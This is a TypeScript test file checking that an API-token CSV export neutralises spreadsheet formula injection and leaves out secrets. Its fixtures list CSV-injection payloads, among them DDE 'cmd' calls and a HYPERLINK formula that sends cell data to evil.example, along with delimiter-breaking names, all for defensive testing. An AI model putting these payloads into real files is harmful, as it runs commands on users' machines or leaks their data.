import { describe, expect, it } from 'vitest';
import { mockBackend, TEST_API_BASE_URL } from '../../../mocks/node';
import { createApiClient } from '../../../src/lib/api-client';
import { fetchTokensForExport } from '../../../src/features/api-tokens/api/export-csv';
import { buildTokensCsv } from '../../../src/features/api-tokens/model/tokens-csv';
import type { ApiToken } from '../../../src/features/api-tokens/api/types';
import { parseCsv } from '../grid/grid-helpers';
import { HOSTILE_STRINGS } from './hostile-strings';

// A CSV opened in a spreadsheet must not run anything a token's name (or any other text) smuggles in,
// and the export never carries a secret.

/** What a spreadsheet would take as the start of a formula (or a DDE call). */
const FORMULA_START = /^[=+\-@\t\r]/;

function token(overrides: Partial<ApiToken>): ApiToken {
  return {
    id: 'TKN-1111-2222',
    name: 'Plain',
    status: 'Active',
    lastAccessAt: null,
    modules: [{ id: 'MOD-1756', name: 'Access Management' }],
    audit: { created: { at: '2026-01-02T03:04:05.000Z', by: { id: 'USR-1', name: 'Alex Morgan' } } },
    ...overrides,
  };
}

const TRIGGERS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
];

/**
 * How a spreadsheet that guesses the delimiter reads the file: split on `delimiter` and on line ends, except
 * inside double quotes (a doubled quote is one quote). Deliberately no smarter than that.
 */
function splitOn(text: string, delimiter: ',' | ';' | '\t'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === delimiter) {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Names that would start a new cell, or a formula, in a file whose fields are quoted only when they hold a comma. */
const CELL_BREAKERS = ["x;=cmd|' /C calc'!A0", 'left\t=1+1', 'line\n=1+1', 'say "hi";=1+1', '=1+1'];

describe('CSV export against hostile data', () => {
  describe.each([
    { label: 'comma', delimiter: ',' as const, cellsPerRow: 8 },
    { label: 'semicolon', delimiter: ';' as const, cellsPerRow: 1 },
    { label: 'tab', delimiter: '\t' as const, cellsPerRow: 1 },
  ])('split on $label', ({ delimiter, cellsPerRow }) => {
    const tokens = CELL_BREAKERS.map((name, i) => token({ id: `TKN-0000-000${i}`, name }));
    const rows = splitOn(buildTokensCsv(tokens), delimiter);

    it('every name stays in its cell: no row gains a cell, no line break starts a row', () => {
      expect(rows).toHaveLength(tokens.length + 1);
      for (const row of rows) expect(row).toHaveLength(cellsPerRow);
    });

    it('no cell starts a formula, and each row still begins with the whole name', () => {
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      CELL_BREAKERS.forEach((name, i) => {
        const first = rows[i + 1]?.[0] ?? '';
        const written = FORMULA_START.test(name) ? `'${name}` : name;
        if (delimiter === ',') expect(first).toBe(written);
        else expect(first.startsWith(`${written},TKN-0000-000${i},`)).toBe(true);
      });
    });
  });

  it('no cell of any column starts a formula, whatever the name, creator or module is called', () => {
    const tokens = TRIGGERS.map((text, i) =>
      token({
        id: `TKN-0000-000${i}`,
        name: text,
        modules: [{ id: 'MOD-1', name: text }],
        audit: { created: { at: '2026-01-02T03:04:05.000Z', by: { id: 'USR-1', name: text } } },
      }),
    );
    const rows = parseCsv(buildTokensCsv(tokens));
    expect(rows).toHaveLength(tokens.length + 1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    // Neutralised by a leading apostrophe, otherwise unchanged: what was typed can still be read.
    TRIGGERS.forEach((text, i) => {
      const row = rows[i + 1] as string[];
      expect(row[0]).toBe(`'${text}`);
      expect(row[3]).toBe(`'${text}`);
      expect(row[2]).toBe(`'${text} (MOD-1)`);
    });
  });

  it('keeps every hostile name exactly inside its quotes', () => {
    const tokens = HOSTILE_STRINGS.map(({ text }, i) =>
      token({ id: `TKN-0000-${String(i).padStart(4, '0')}`, name: text }),
    );
    const rows = parseCsv(buildTokensCsv(tokens));
    HOSTILE_STRINGS.forEach(({ text }, i) => {
      const cell = rows[i + 1]?.[0];
      expect(cell).toBe(FORMULA_START.test(text) ? `'${text}` : text);
    });
  });

  it('leaves ordinary text alone', () => {
    const [, row] = parseCsv(buildTokensCsv([token({ name: 'Robot = helper, v2 - "prod" @home' })]));
    expect(row?.[0]).toBe('Robot = helper, v2 - "prod" @home');
  });

  it('never writes a secret, even when the data carries one', async () => {
    mockBackend.reset({ dataset: 'empty' });
    const { token: created, secret } = mockBackend.db.createToken({
      name: '=HYPERLINK("x")',
      description: null,
      icon: null,
      moduleIds: ['MOD-1756'],
    });
    const client = createApiClient({
      baseUrl: TEST_API_BASE_URL,
      getAccessToken: () => 'idt:TKN-0000-0001:test',
    });
    const fetched = await fetchTokensForExport(client, { filters: [], order: [] });
    const text = buildTokensCsv([...fetched, { ...fetched[0], token: secret }]);
    expect(text).toContain(created.id);
    expect(text).toContain(`'=HYPERLINK(""x"")`);
    expect(text).not.toContain(secret);
    expect(text).not.toContain(secret.split(':')[2] ?? secret);
  });
});
